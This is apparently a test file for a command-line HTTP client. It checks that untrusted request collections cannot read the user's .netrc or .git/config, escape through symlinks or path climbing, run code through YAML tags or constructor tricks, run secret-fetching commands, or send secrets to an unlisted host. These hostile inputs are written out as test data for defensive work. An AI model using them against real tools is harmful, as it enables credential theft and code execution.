/** A collection from a stranger: what it tries, and does not get. */
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { collectionOf, everyFile, temporaryFolder, writeIn } from '../../support/folder.js';
import { type Ended, echoTrail } from '../../support/program.js';
import { rawServer, responseOf } from '../../support/raw-server.js';

const server = await rawServer(() => responseOf('{"ok": true}'));
const elsewhere = await rawServer(() => responseOf('{}'));
test.after(() => Promise.all([server.close(), elsewhere.close()]));

/** A folder of the user's with something in it that nobody else should see. */
function homeWith(text: string): string {
  const home = temporaryFolder();
  writeIn(home, '.netrc', text);
  return home;
}

const private_ = 'machine vault.example password of-the-user-alone';

interface Attempt {
  readonly tries: string;
  readonly files: (home: string) => Readonly<Record<string, string>>;
  readonly link?: (cwd: string, home: string) => void;
  readonly args: readonly string[];
  readonly says: RegExp;
}

const attempts: readonly Attempt[] = [
  {
    tries: 'to read a file of the user by its whole path',
    files: (home) => ({ 'requests/it.yaml': `method: POST\nurl: \${origin}/a\nbody: {file: ${home}/.netrc}\n` }),
    args: ['send', 'it'],
    says: /lies outside the collection folder/,
  },
  {
    tries: 'to read one by the home sign',
    files: () => ({ 'requests/it.yaml': 'method: POST\nurl: ${origin}/a\nbody: {text: "${file(\\"~/.netrc\\")}"}\n' }),
    args: ['send', 'it'],
    says: /~\/\.netrc is hidden/,
  },
  {
    tries: 'to read one by climbing',
    files: () => ({ 'requests/it.yaml': 'method: POST\nurl: ${origin}/a\nbody: {template: ../../.netrc}\n' }),
    args: ['send', 'it'],
    says: /lies outside the collection folder/,
  },
  {
    tries: 'to read one through a link',
    files: () => ({ 'requests/it.yaml': 'method: POST\nurl: ${origin}/a\nbody: {parts: {it: {file: data/it.txt}}}\n' }),
    link: (cwd, home) => {
      mkdirSync(join(cwd, 'data'));
      symlinkSync(join(home, '.netrc'), join(cwd, 'data/it.txt'));
    },
    args: ['send', 'it'],
    says: /lies outside the collection folder/,
  },
  {
    tries: 'to send the credentials of version control, which lie in its folder',
    files: () => ({
      '.git/config': private_,
      'requests/it.yaml': 'method: POST\nurl: ${origin}/a\nbody: {file: .git/config}\n',
    }),
    args: ['send', 'it'],
    says: /\.git\/config is hidden, or lies in a hidden folder/,
  },
  {
    tries: 'to send what its user has recorded, by a link of its own',
    files: () => ({
      '.echo-trail/echoes/a.jsonl': private_,
      'requests/it.yaml': 'method: POST\nurl: ${origin}/a\nbody: {text: "${file(\'data/it\')}"}\n',
    }),
    link: (cwd) => {
      mkdirSync(join(cwd, 'data'));
      symlinkSync('../.echo-trail/echoes/a.jsonl', join(cwd, 'data/it'));
    },
    args: ['send', 'it'],
    says: /data\/it is hidden, or lies in a hidden folder/,
  },
  {
    tries: 'to have a request read from outside through a link',
    files: () => ({}),
    link: (cwd, home) => {
      mkdirSync(join(cwd, 'requests'));
      symlinkSync(join(home, '.netrc'), join(cwd, 'requests/it.yaml'));
    },
    args: ['send', 'it'],
    says: /lies outside the collection folder/,
  },
  {
    tries: 'to have rows read from outside',
    files: (home) => ({
      'requests/a.yaml': 'url: ${origin}/a\n',
      'trails/it.yaml': `rows: ${home}/all.csv\nsteps: [{send: a}]\n`,
    }),
    args: ['run', 'it'],
    says: /lies outside the collection folder/,
  },
  {
    tries: 'to have records written through a link for its local state',
    files: () => ({ 'requests/it.yaml': 'url: ${origin}/a\n' }),
    link: (cwd, home) => symlinkSync(home, join(cwd, '.echo-trail')),
    args: ['send', 'it'],
    says: /\.echo-trail lies outside the collection folder/,
  },
  {
    tries: 'to have them written through a link inside it',
    files: () => ({ 'requests/it.yaml': 'url: ${origin}/a\n' }),
    link: (cwd, home) => {
      mkdirSync(join(cwd, '.echo-trail'));
      symlinkSync(home, join(cwd, '.echo-trail/echoes'));
    },
    args: ['send', 'it'],
    says: /\.echo-trail\/echoes lies outside the collection folder/,
  },
  {
    tries: 'to have a draft written through a link',
    files: () => ({}),
    link: (cwd, home) => symlinkSync(home, join(cwd, 'requests')),
    args: ['import', 'address', 'https://harbour.example/v1/berths', '--as', 'it'],
    says: /requests\/it\.yaml lies outside the collection folder/,
  },
  {
    tries: 'to run a program by a tag of YAML',
    files: () => ({
      'requests/it.yaml': 'url: !!js/function "function () { return process.exit(7) }"\n',
    }),
    args: ['send', 'it'],
    says: /requests\/it\.yaml:1/,
  },
  {
    tries: 'to declare a command for secrets',
    files: () => ({
      'echo-trail.yaml': 'name: test\nenvironment: sandbox\nsecrets: [{collection: ., command: [touch, ran]}]\n',
      'requests/it.yaml': 'url: ${origin}/a\nheaders: {X-A: "${secret.a}"}\n',
    }),
    args: ['send', 'it'],
    says: /secrets/,
  },
  {
    tries: 'to bring settings of its own',
    files: () => ({
      'settings.yaml': 'secrets: [{collection: /, command: [touch, ran]}]\n',
      'requests/it.yaml': 'url: ${origin}/a\nheaders: {X-A: "${secret.a}"}\n',
    }),
    args: ['send', 'it'],
    says: /the secret a is not set/,
  },
  {
    tries: 'to reach what code can reach',
    files: () => ({
      'requests/it.yaml': 'url: ${origin}/a\nquery: {a: "${constructor.constructor(\\"return process\\")()}"}\n',
    }),
    args: ['send', 'it'],
    says: /requests\/it\.yaml:2/,
  },
  {
    tries: 'to send a secret to another host',
    files: () => ({
      'requests/it.yaml': `url: ${elsewhere.origin.replace('127.0.0.1', 'localhost')}/a\nheaders: {X-A: "\${secret.theirs}"}\n`,
    }),
    args: ['send', 'it'],
    says: /the environment sandbox does not list localhost:\d+/,
  },
  {
    tries: 'to send a secret to another host inside the address',
    files: () => ({
      'requests/it.yaml': 'inputs: {key: {default: "${secret.theirs}"}}\nurl: http://elsewhere.example/{key}\n',
    }),
    args: ['send', 'it'],
    says: /the environment sandbox does not list elsewhere\.example:80/,
  },
];

for (const { tries, files, link, args, says } of attempts) {
  test(`a stranger's collection that tries ${tries} is stopped`, async () => {
    const home = homeWith(private_);
    writeIn(home, 'all.csv', `a\n${private_}\n`);
    const cwd = collectionOf(files(home), server.origin);
    link?.(cwd, home);
    const before = {
      heard: server.received.length,
      elsewhere: elsewhere.received.length,
      home: readdirSync(home).length,
    };
    const ended = await echoTrail(args, { cwd, env: { HOME: home, ECHO_TRAIL_SECRET_THEIRS: 'a-secret-of-the-user' } });
    assert.ok([2, 4].includes(ended.status), `${ended.status}: ${ended.err}${ended.out}`);
    assert.match(ended.err + ended.out, says);
    assert.doesNotMatch(ended.err + ended.out, /of-the-user/);
    assert.equal(server.received.length, before.heard, 'nothing was sent');
    assert.equal(elsewhere.received.length, before.elsewhere);
    assert.equal(readdirSync(home).length, before.home, 'nothing was written');
    assert.ok(!existsSync(join(cwd, 'ran')));
  });
}

test('a redirect to another host takes no secret along', async () => {
  const leading = await rawServer(() =>
    responseOf('', {
      status: '302 Found',
      headers: [`location: ${elsewhere.origin.replace('127.0.0.1', 'localhost')}/b`],
    }),
  );
  const cwd = collectionOf(
    {
      'requests/it.yaml': 'url: ${origin}/a\nsession: key\nheaders: {X-Own: "${secret.theirs}"}\n',
      'sessions/key.yaml': 'kind: api-key\nkey: ${secret.theirs}\nheader: X-Key\n',
    },
    leading.origin,
  );
  const before = elsewhere.received.length;
  await echoTrail(['send', 'it'], { cwd, env: { ECHO_TRAIL_SECRET_THEIRS: 'a-secret-of-the-user' } });
  assert.doesNotMatch(elsewhere.received.slice(before).join(''), /of-the-user/);
  await leading.close();
});

const settings = (collection: string, command: readonly string[]): string =>
  `secrets:\n  - collection: ${collection}\n    names: [deskWord]\n    command: ${JSON.stringify(command)}\n`;

function withCommand(script: string): { cwd: string; home: string; send: () => Promise<Ended> } {
  const home = temporaryFolder();
  const cwd = collectionOf(
    {
      'requests/it.yaml': 'url: ${origin}/a\nheaders: {X-Word: "${secret.deskWord}", X-Again: "${secret.deskWord}"}\n',
    },
    server.origin,
  );
  const program = join(home, 'words');
  writeFileSync(program, `#!/bin/sh\n${script}\n`);
  chmodSync(program, 0o700);
  writeIn(home, 'settings.yaml', settings(cwd, [program, '{name}', '{environment}']));
  return { cwd, home, send: () => echoTrail(['send', 'it'], { cwd, env: { ECHO_TRAIL_HOME: home } }) };
}

test("a command of the user's settings prints a secret, once, and it is hidden like any other", async () => {
  const { cwd, home, send } = withCommand('echo called >> "$(dirname "$0")/calls"\necho "word-for-$1-in-$2"');
  const sent = await send();
  assert.equal(sent.status, 0, sent.err);
  assert.match(server.received.at(-1) ?? '', /X-Word: word-for-deskWord-in-sandbox/i);
  assert.equal(everyFile(home).find(({ path }) => path.endsWith('calls'))?.text, 'called\n');
  for (const { text, path } of everyFile(cwd)) assert.doesNotMatch(text, /word-for/, path);
  assert.doesNotMatch(sent.out + sent.err, /word-for/);
});

test('a command is for the collection that the user named, and no other', async () => {
  const { home } = withCommand('echo a-word');
  const other = collectionOf(
    { 'requests/it.yaml': 'url: ${origin}/a\nheaders: {X-Word: "${secret.deskWord}"}\n' },
    server.origin,
  );
  const { status, err } = await echoTrail(['send', 'it'], { cwd: other, env: { ECHO_TRAIL_HOME: home } });
  assert.equal(status, 4);
  assert.match(err, /the secret deskWord is not set/);
});

test('a command that fails says so, with its program and how it ended', async () => {
  const { status, err } = await withCommand('exit 3').send();
  assert.equal(status, 4);
  assert.match(err, /the command for the secret deskWord did not print it[\s\S]*words ended with 3/);
});

test('settings that are wrong are told with their line', async () => {
  const { home, cwd } = withCommand('echo a');
  writeIn(home, 'settings.yaml', 'secrets:\n  - collection: /a\n    comand: [a]\n');
  const { status, err } = await echoTrail(['send', 'it'], { cwd, env: { ECHO_TRAIL_HOME: home } });
  assert.equal(status, 2);
  assert.match(err, /command is missing[\s\S]*settings\.yaml:2/);
});
